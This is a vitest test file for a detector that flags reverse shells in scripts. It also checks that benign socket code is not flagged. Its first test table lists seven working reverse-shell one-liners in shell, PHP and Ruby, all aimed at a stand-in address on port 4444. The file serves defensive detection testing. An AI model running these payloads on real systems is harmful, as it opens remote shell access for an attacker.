import type { ScriptFacts } from "@fumehood/inspect";
import { expect, test } from "vitest";
import { evaluateIndicators } from "../evaluate.ts";
import { STATIC_RULES } from "../rule-set.ts";
import { factsOf, scriptOf } from "../testing/facts.ts";

function holds(language: ScriptFacts["language"], ...signs: Parameters<typeof scriptOf>[1] & unknown[]): boolean {
  const facts = factsOf({ type: "text", script: scriptOf(language, signs) });
  return evaluateIndicators(STATIC_RULES, [facts]).some(({ ioc }) => ioc === "script-reverse-shell");
}

test.each<[ScriptFacts["language"], string]>([
  ["shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
  ["shell", "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196"],
  ["shell", "exec 5<>/dev/tcp/192.0.2.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done"],
  ["shell", "nc 192.0.2.1 4444 -e /bin/bash"],
  ["shell", "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f"],
  ["php", '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
  ["ruby", 'f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)'],
])("a reverse shell in %s is one: %s", (language, excerpt) => {
  expect(holds(language, ["reverse-shell", 0, excerpt])).toBe(true);
});

test.each<[ScriptFacts["language"], string]>([
  ["shell", "until (echo > /dev/tcp/database/5432) 2>/dev/null; do sleep 1; done"],
  ["shell", "exec 3<>/dev/tcp/www.example.com/80"],
  ["python", "os.dup2(log.fileno(), sys.stdout.fileno())"],
  ["python", "pty.spawn(shell)"],
  ["perl", "use IO::Socket::INET;"],
  ["powershell", "$tcp = New-Object Net.Sockets.TcpClient; $tcp.Connect($server, 443)"],
])("an honest use of the same words in %s is none: %s", (language, excerpt) => {
  expect(holds(language, ["reverse-shell", 0, excerpt], "execution")).toBe(false);
});

test("a socket in place of standard input is a reverse shell only when a program is started", () => {
  const sign = ["reverse-shell", 0, "os.dup2(s.fileno(),0)"] as const;
  expect(holds("python", sign)).toBe(false);
  expect(holds("python", sign, "execution")).toBe(true);
});
